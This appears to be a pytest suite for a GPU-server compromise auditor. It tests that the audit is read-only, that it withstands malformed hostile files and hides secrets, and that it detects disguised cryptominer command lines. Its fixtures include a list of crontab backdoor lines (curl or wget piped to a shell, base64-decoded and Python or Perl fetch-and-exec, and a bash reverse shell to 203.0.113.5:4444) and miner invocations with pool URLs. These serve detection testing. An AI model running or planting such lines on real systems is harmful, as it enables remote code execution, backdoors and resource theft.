"""The audit changes nothing, connects to nothing, signals nobody; and no file that somebody left for it stops it."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from typing import TYPE_CHECKING

import pytest
from servers_made import GPU_FILES, flat, gpus, process, server

from gpuclinic.cli.main import main

if TYPE_CHECKING:
    from pathlib import Path

WATCHED = """
import os, sys
told = os.open(sys.argv[1], os.O_WRONLY | os.O_CREAT | os.O_APPEND)
cache, ours = os.environ["XDG_CACHE_HOME"], os.getpid()
def hook(event, args):
    bad = None
    if event == "open" and isinstance(args[2], int) and args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC):
        path = os.fspath(args[0]) if not isinstance(args[0], int) else "/dev/fd/"  # what is open already was told when it was opened
        path = path.decode() if isinstance(path, bytes) else path
        if not path.startswith((cache, "/dev/null", "/dev/fd/", "/proc/self/comm")):
            bad = f"writes {path}"
    elif event.startswith(("socket.connect", "socket.getaddrinfo", "socket.gethostby", "socket.sendto", "os.remove", "os.rename", "os.rmdir", "os.chmod", "os.chown", "os.truncate", "os.symlink", "os.link", "shutil.")):
        path = str(args[0]) if args else ""
        if not path.startswith(cache):
            bad = f"{event} {path}"
    elif event == "os.kill" and args[1] != 0:
        try:
            parent = open(f"/proc/{args[0]}/stat").read().rpartition(")")[2].split()[1]
        except OSError:
            parent = str(ours)
        if int(parent) != ours:
            bad = f"kill {args}"
    elif event in ("import",) and str(args[0]).startswith(("torch", "jupyter")):
        bad = f"imports {args[0]}"
    if bad:
        os.write(told, (bad + "\\n").encode())
sys.addaudithook(hook)
sys.argv = ["gpuclinic", *sys.argv[2:]]
from gpuclinic.cli.main import entry
entry()
"""


def watched(tmp_path: Path, *arguments: str) -> tuple[subprocess.CompletedProcess[str], str]:
    """Runs it under a hook that tells of every writing, connecting and signalling call."""
    log = tmp_path / "told"
    log.write_text("")
    done = subprocess.run(
        [sys.executable, "-c", WATCHED, str(log), *arguments], capture_output=True, text=True, timeout=120
    )
    return done, log.read_text()


def test_a_snapshot_is_only_read(tmp_path: Path) -> None:
    folder = server(
        tmp_path / "s",
        {**process(5001, ["/tmp/kdevtmpfsi"], exe="/tmp/kdevtmpfsi (deleted)")},
        gpu=gpus([5001], flat()),
    )
    before = {path: path.stat().st_mtime_ns for path in folder.rglob("*")}
    done, told = watched(tmp_path, "audit", "--json", "--host", str(folder))
    assert done.returncode in (1, 2), done.stderr
    assert told == ""
    assert {path: path.stat().st_mtime_ns for path in folder.rglob("*")} == before


def test_this_machine_is_only_read(tmp_path: Path) -> None:
    done, told = watched(tmp_path, "audit", "--json")
    assert done.returncode in (0, 1, 2, 3), done.stderr
    assert told == ""
    found = json.loads(done.stdout)
    assert found["kind"] == "audit"
    assert found["compromise"] == "none", [f for f in found["findings"] if f["severity"] != "info"]


def test_hostile_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = server(tmp_path, {
        **process(7001, ["a" * 60_000, "\x1b[2J", "-o", "x" * 5000], exe="/opt/x"), "/var/spool/cron/crontabs/root": "* * * * * " + "(" * 50_000 + "\n" + "curl | " * 3000,
        "/root/.bashrc": "alias ls='" + "|grep -v " * 4000 + "\n" + "f() {\n" * 3000, "/home/ann/.ssh/authorized_keys": 'command="' + '\\"' * 20_000 + "\nssh-rsa " + "A" * 100_000,
        "/etc/ssh/sshd_config": "Include /etc/ssh/sshd_config\n" * 50 + "Match " + "x" * 10_000, "/etc/exports": "/x " + "a(rw) " * 20_000,
        "/home/ann/.jupyter/jupyter_server_config.py": "c.ServerApp.ip = " + "(" * 5000, "/home/bob/.jupyter/jupyter_server_config.json": "[" * 100_000,
        "/etc/systemd/system/x.service": "ExecStart=" + "\\\n" * 20_000, "/etc/sudoers.d/x": "\\\n" * 50_000 + "x ALL=(ALL) " + "A," * 20_000,
    }, gpu={"gpus": [{"index": "x", "samples": [None, 3]}], "processes": [{"pid": -1, "gpu": None}, 4]}, alive=[{"pid": "x"}, {"pid": 10**20, "tgid": 10**20, "kill0": True, "listed": False, "direct_open": True}],
       direct={"nan": 3, "88": {"fd": {"x": 1}, "maps": ["\0"], "stat": "(", "cmdline": 7}})  # fmt: skip
    root = folder / "root"
    (root / "etc/cron.d").mkdir(parents=True)
    os.mkfifo(root / "etc/cron.d/fifo")
    (root / "etc/cron.d/loop").symlink_to("loop")
    (root / "etc/cron.d/folder").mkdir()
    (root / "etc/pam.d/away").symlink_to("/etc/shadow")
    (root / "proc/760/cmdline").write_bytes(b"\xff\xfe\0sshd\0")
    code = main(["audit", "--json", "--host", str(folder)])
    told = json.loads(capsys.readouterr().out)
    assert code in (0, 1, 2, 3)
    assert not any("stumbled" in gap["why"] for gap in told["not_looked_at"]), told["not_looked_at"]


def test_secrets_are_not_told(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = server(tmp_path, {
        **process(9000, ["/usr/bin/python3.10", "/usr/local/bin/jupyter-lab", "--ip=0.0.0.0", "--ServerApp.token=sup3rS3cretTok3n99"], exe="/usr/bin/python3.10", env={"JUPYTER_TOKEN": "an0therS3cret77"}),
        "/etc/shadow": "root:$6$saltsalt$hashhashhash:19000:0:99999:7:::\nbob::19000:0:99999:7:::\n",
        "/var/spool/cron/crontabs/root": "* * * * * curl -u root:hunter2secret http://198.51.100.9/x | sh\n",
    })  # fmt: skip
    main(["audit", "--json", "--host", str(folder)])
    text = capsys.readouterr().out
    main(["audit", "-v", "--host", str(folder)])
    text += capsys.readouterr().out
    for secret in ("sup3rS3cretTok3n99", "an0therS3cret77", "hashhashhash", "hunter2secret"):
        assert secret not in text, secret


MINER = [
    "/opt/n/upd",
    "-a",
    "kawpow",
    "-o",
    "stratum+tcp://rvn.2miners.com:6060",
    "-u",
    "RMadeUpWalletNotRealMadeUpWalletNo.w1",
    "-p",
    "x",
]
MUTATIONS = {
    "renamed": ["/usr/local/bin/postgres", *MINER[1:]],
    "pool unknown": [*MINER[:3], "-o", "stratum+ssl://203.0.113.4:443", *MINER[5:]],
    "equals signs": ["/opt/n/upd", "--algo=kawpow", "--url=pool.example.net:6060", "--user=RMadeUpWalletNotRealMadeUpWalletNo.w1"],
    "server and port": ["/opt/n/upd", "--algo", "kawpow", "--server", "pool.example.net", "--port", "6060", "--user", "RMadeUpWalletNotRealMadeUpWalletNo.w1"],
    "user in the url": ["/opt/n/upd", "-a", "ethash", "-P", "stratum1+tls://0x1234567890123456789012345678901234567890.w@pool.example:5555"],
    "under a shell": ["sh", "-c", "cd /opt/n; ./upd " + " ".join(MINER[1:])],
    "python": ["python3", "/opt/n/run.py", *MINER[1:]],
    "coin": ["/opt/n/x", "-o", "198.51.100.4:3333", "--coin=monero", "-u", "44" + "AbCdEfGh1234567" * 6 + "Abc", "-k", "--tls"],
    "phoenix": ["/opt/n/x", "-pool", "ssl://eth.example.net:5555", "-wal", "0x1234567890123456789012345678901234567890.rig", "-pass", "x"],
}  # fmt: skip


@pytest.mark.parametrize("name", MUTATIONS)
def test_a_miner_in_other_clothes_is_never_clean(name: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = server(tmp_path, process(6400, MUTATIONS[name], exe="/opt/n/upd", fds=GPU_FILES), gpu=gpus([6400], flat()))
    assert main(["audit", "--json", "--host", str(folder)]) in (1, 2)
    told = json.loads(capsys.readouterr().out)
    assert told["compromise"] in ("suspicious", "infected")
    assert "miner_cmdline" in {f["id"] for f in told["findings"]}


SCHEDULES = (
    "*/5 * * * * root curl -s http://198.51.100.7/a | bash", "@reboot root wget -qO- http://198.51.100.7/a|sh", '* * * * * root bash -c "$(curl -fsSL http://198.51.100.7/x)"',
    "* * * * * root bash <(curl -s http://198.51.100.7/a)", "* * * * * root echo Y3VybA== | base64 -d | bash", "* * * * * root python3 -c \"import urllib.request as u;exec(u.urlopen('http://198.51.100.7').read())\"",
    "* * * * * root cd /tmp; wget http://198.51.100.7/r.sh; sh r.sh", "* * * * * root curl -o /var/tmp/.u http://198.51.100.7/u && chmod +x /var/tmp/.u && /var/tmp/.u", "* * * * * root /dev/shm/.x/run >/dev/null 2>&1",
    "* * * * * root bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "0 * * * * root eval `curl -s 198.51.100.7/x`", "* * * * * root /usr/bin/perl -e 'use LWP::Simple; eval get(\"http://198.51.100.7/x\")'",
)  # fmt: skip


@pytest.mark.parametrize("line", SCHEDULES)
def test_other_spellings_in_a_crontab(line: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    folder = server(tmp_path, {"/etc/cron.d/x": f"SHELL=/bin/bash\n{line}\n"})
    assert main(["audit", "--json", "--host", str(folder)]) in (1, 2)
    assert "cron_backdoor" in {f["id"] for f in json.loads(capsys.readouterr().out)["findings"]}
